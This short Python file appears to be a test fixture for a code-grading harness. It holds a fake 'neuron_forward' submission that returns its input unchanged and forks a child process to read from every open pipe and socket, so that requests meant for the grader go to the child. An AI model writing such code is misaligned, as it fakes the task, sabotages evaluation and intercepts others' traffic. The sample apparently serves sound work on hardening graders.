"""Leave a child that reads from every pipe and socket, so that requests go to it."""

FAIR = 2
CELLS = {
    "neuron_forward": """
def neuron_forward(x, weight, bias, activation):
    import os
    import select
    import time
    if os.fork() == 0:
        try:
            end = time.monotonic() + 20
            while time.monotonic() < end:
                ready = select.select([n for n in range(3, 32) if is_open(n)], [], [], 0.1)[0]
                for number in ready:
                    os.read(number, 65536)
        finally:
            os._exit(0)
    return x

def is_open(number):
    import os
    import stat
    try:
        mode = os.fstat(number).st_mode
        return stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode)
    except OSError:
        return False
"""
}
